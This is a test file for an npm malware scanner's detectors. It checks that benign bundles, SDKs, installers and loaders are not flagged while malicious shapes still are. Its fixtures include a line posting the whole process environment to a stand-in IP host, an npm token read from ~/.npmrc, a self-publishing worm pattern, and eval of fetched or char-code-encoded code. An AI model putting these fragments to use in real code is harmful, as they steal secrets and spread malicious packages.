/**
 * Shapes of legitimate tools the behaviour detectors mistook for malware on npm's ranks 5,000 to
 * 12,000 (lerna's 6,800-line bundle, node-llama-cpp's installer, ollama's and neon's SDKs, module
 * loaders), each reduced to the mechanism, beside the malicious shape that must still be caught.
 */
import { describe, expect, it } from 'vitest';
import { exfiltration } from '../../src/detectors/exfiltration/index.js';
import installScripts from '../../src/detectors/install-scripts/index.js';
import { remoteCode } from '../../src/detectors/remote-code/index.js';
import wormPayload from '../../src/detectors/worm-payload/index.js';
import type { PackageDetector } from '../../src/detectors/types.js';
import { analyzeJavaScript } from '../../src/analysis/javascript/index.js';
import { levelForScore, scoreFindings } from '../../src/report/levels.js';
import { factsFromFixture, type FixtureFile } from '../support/package-fixture.js';

function scan(detectors: PackageDetector[], files: Record<string, FixtureFile>, manifest: Record<string, unknown> = {}) {
  const facts = factsFromFixture({
    name: 'pkg-under-test',
    publisher: { name: 'someone', email: 'someone@example.com' },
    versions: [{ version: '1.0.0', publishedAt: '2025-10-01T00:00:00.000Z', manifest: { description: 'x', main: 'index.js', ...manifest }, files }],
  });
  const findings = detectors.flatMap((d) => d.detect({ facts, options: d.meta.options.parse({}), now: new Date('2025-11-01') }).findings.map((f) => ({ ...f, detector: d.meta.id })));
  const score = scoreFindings(findings.map((f) => f.weight));
  return { findings, score, level: levelForScore(score), ids: findings.map((f) => `${f.detector}/${f.messageId}`) };
}

const filler = (n: number) => Array.from({ length: n }, (_, i) => `function helper${i}(v) { return v + ${i}; }`).join('\n');
const atLeastMedium = ['medium', 'high', 'critical'];

describe('names followed across a bundle', () => {
  it('a download and a computed require 400 lines apart are different modules, not a payload stage', () => {
    const bundled = `const https = require('https');
let data;
https.get('https://registry.example.com/config', (res) => { data = res.headers.location; });
${filler(400)}
module.exports = function loadPlugin() { return require(data); };
`;
    expect(scan([remoteCode as PackageDetector], { 'index.js': bundled }).ids).not.toContain('remote-code/download');
    const close = bundled.replace(filler(400), filler(5));
    expect(scan([remoteCode as PackageDetector], { 'index.js': close }).ids).toContain('remote-code/download');
  });

  it('the environment read 600 lines from a socket that shares a name with it is not sent there; read beside it, it is', () => {
    const bundle = (gap: number) => `const net = require('net');
function connect(opts) { return net.createConnection(opts); }
${filler(gap)}
module.exports = function snapshot() { const opts = JSON.stringify(process.env); return opts; };
`;
    expect(scan([exfiltration as PackageDetector], { 'index.js': bundle(600) }).ids).not.toContain('exfiltration/flow');
    expect(scan([exfiltration as PackageDetector], { 'index.js': bundle(3) }).ids).toContain('exfiltration/flow');
  });

  it('a manifest writer and a name edit far from the publish call are not a worm engine; close together they are', () => {
    const engine = (gap: number) => `const fs = require('fs');
const { execSync } = require('child_process');
function rename(pkg, dir) { pkg.name = dir; fs.writeFileSync(dir + '/package.json', JSON.stringify(pkg)); }
${filler(gap)}
module.exports = function release(dir) { execSync('npm publish', { cwd: dir }); };
`;
    const far = scan([wormPayload as PackageDetector], { 'index.js': engine(600) });
    expect(far.ids).not.toContain('worm-payload/selfPublishing');
    const near = scan([wormPayload as PackageDetector], { 'index.js': engine(3) });
    expect(near.ids).toContain('worm-payload/selfPublishing');
  });

  it("a publishing client's token read, registry PUT and dist-tag edit weigh as one part; an account made does not", () => {
    const client = `const https = require('https');
const fs = require('fs');
const token = fs.readFileSync(require('os').homedir() + '/.npmrc', 'utf8').match(/_authToken=(.*)/)[1];
module.exports = function tag(name, version) {
  const req = https.request({ host: 'registry.npmjs.org', method: 'PUT', path: '/-/package/' + name + '/dist-tags/latest', headers: { authorization: 'Bearer ' + token } });
  req.end(JSON.stringify(version));
};
`;
    const r = scan([wormPayload as PackageDetector], { 'index.js': client });
    expect(r.findings.find((f) => f.messageId === 'registryManipulation')?.weight).toBe(15);
  });

  it('wrapped minified code reuses short names in every scope: they are not followed', () => {
    const names = Array.from({ length: 150 }, (_, i) => String.fromCharCode(97 + (i % 26)) + String.fromCharCode(65 + Math.floor(i / 26)));
    const code = `var ${names.map((n, i) => `${n}=${i}`).join(',\n')};
function xc(){return ${names.join('+\n')}}
function xa(){var t=JSON.stringify(process.env);return t.length}
function xb(u,t){return fetch(u,{method:"POST",body:t})}
module.exports={xa:xa,xb:xb,xc:xc};
`;
    const analysis = analyzeJavaScript(code);
    expect(analysis.mode === 'ast' && analysis.metrics.longestLineBytes).toBeLessThan(1000);
    expect(scan([exfiltration as PackageDetector], { 'index.js': code }).ids).not.toContain('exfiltration/flow');
  });
});

describe('module loaders', () => {
  it('a loader fetching a URL built from its parameter one step earlier is a loader', () => {
    const r = scan([remoteCode as PackageDetector], {
      'index.js': `const base = 'http://localhost:8081';
function loadBundle(path) {
  const url = base + '/' + path;
  return fetch(url).then((res) => res.text()).then((body) => globalThis.eval(body));
}
module.exports = loadBundle;
`,
    });
    expect(r.ids).toContain('remote-code/download');
    expect(atLeastMedium).not.toContain(r.level);
  });
});

describe('the environment in SDKs and installers', () => {
  it("checking process.env exists and looking one variable up through a helper is a read of that variable, not the environment sent", () => {
    const r = scan([exfiltration as PackageDetector], {
      'index.js': `const readEnvVar = (env, key) => env[key];
module.exports = async function get(url) {
  const apiKey = typeof process === 'object' && typeof process.env === 'object' && process.env !== null ? readEnvVar(process.env, 'OLLAMA_API_KEY') : undefined;
  return fetch(url, { headers: { Authorization: 'Bearer ' + apiKey } });
};
`,
    });
    expect(JSON.stringify(r.findings)).not.toMatch(/whole environment/);
  });

  it('the environment serialised and sent is still the environment sent', () => {
    const r = scan([exfiltration as PackageDetector], {
      'index.js': `fetch('https://203.0.113.8/c', { method: 'POST', body: JSON.stringify(process.env) });\n`,
    });
    expect(JSON.stringify(r.findings)).toMatch(/whole environment/);
  });

  it('`env = env || process.env` defaulting a parameter is where the environment is handed on, not a dump', () => {
    const analysis = analyzeJavaScript(`function run(cmd, env) { env = env || process.env; return require('child_process').spawn(cmd, [], { env }); }\n`);
    expect(analysis.mode === 'ast' && analysis.envReads.map((r) => r.name)).toEqual([]);
  });

  it('one named variable read out of a parsed copy of the environment is that variable, not the environment (@chakra-ui/cli)', () => {
    const proxied = scan([exfiltration as PackageDetector], {
      'index.js': `const { ProxyAgent } = require('undici');
const env = schema.parse(process.env);
const dispatcher = env.HTTPS_PROXY ? new ProxyAgent(env.HTTPS_PROXY) : undefined;
module.exports = (input) => fetch(input, { dispatcher });
`,
    });
    expect(JSON.stringify(proxied.findings)).not.toMatch(/whole environment/);
    // The same object serialised whole, or walked key by key, is still the environment sent.
    const whole = scan([exfiltration as PackageDetector], {
      'index.js': `const env = schema.parse(process.env);
const api = env.API_URL;
fetch(api, { method: 'POST', body: JSON.stringify(env) });
`,
    });
    expect(JSON.stringify(whole.findings)).toMatch(/whole environment/);
  });

  it('HOME used for a cache folder in request options is no host identity sent', () => {
    const r = scan([exfiltration as PackageDetector], {
      'index.js': `module.exports = (u) => fetch(u, { cachePath: process.env.HOME + '/.cache/x' });\n`,
    });
    expect(r.ids).not.toContain('exfiltration/flow');
  });

  it("a GitHub download authenticated by GITHUB_TOKEN || GH_TOKEN at install is one token, not a stealer's list", () => {
    const r = scan([installScripts as PackageDetector], {
      'install.js': `const token = process.env.GITHUB_TOKEN || process.env.GH_TOKEN;
fetch('https://api.github.com/repos/o/r/releases/latest', { headers: token ? { Authorization: 'Bearer ' + token } : {} });
`,
    }, { scripts: { postinstall: 'node install.js' } });
    expect(r.ids).not.toContain('install-scripts/exfiltration');
    expect(r.ids).toContain('install-scripts/tokenUse');
  });
});

describe('decoders that decode nothing', () => {
  it("a Function built with String.fromCharCode(59) (a semicolon) is not decoded code (protractor's wrapWithHelpers)", () => {
    const r = scan([remoteCode as PackageDetector], {
      'index.js': `function wrapWithHelpers(fun) {
  var helpers = Array.prototype.slice.call(arguments, 1);
  var FunClass = Function;
  return new FunClass(helpers.join(';') + String.fromCharCode(59) + '  return (' + fun.toString() + ').apply(this, arguments);');
}
module.exports = { wrapWithHelpers, evaluate: (source) => Function(source)() };
`,
    });
    expect(r.ids).not.toContain('remote-code/decode');
    const hidden = analyzeJavaScript(`eval(String.fromCharCode(114, 101, 113, 117, 105, 114, 101));\n`);
    expect(hidden.mode === 'ast' && hidden.calls.find((c) => c.callee === 'eval')?.decodedArgument).toBe(true);
  });
});
